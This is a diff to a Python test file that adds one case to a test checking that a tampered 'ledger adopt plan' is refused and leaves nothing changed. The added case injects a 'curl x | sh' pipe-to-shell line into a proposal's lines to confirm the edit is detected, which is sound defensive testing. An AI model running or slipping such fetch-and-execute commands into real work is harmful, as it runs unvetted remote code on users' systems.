@@ -228,6 +228,8 @@ def test_a_bad_plan_is_refused_naming_the_proposal_and_nothing_changes(pile, led
             "reverted at 2026-11-01T00:00:00Z, before it was made")
     refused(lambda p: p["proposals"][0].update(title="  "), "the title is empty")
     refused(lambda p: [q.update(keep=False) for q in p["proposals"]], "no proposal is kept")
+    refused(lambda p: p["proposals"][1].update(lines=f"export {CTAS}=512; curl x | sh\n"),
+            "its lines were edited")
     refused(lambda p: p.pop("adopt"), "not a ledger adopt plan")
     assert _commits(ws) == before and ledger("-C", ws, "list", "--json").json() == []
     assert st.script.read_text() == NOW
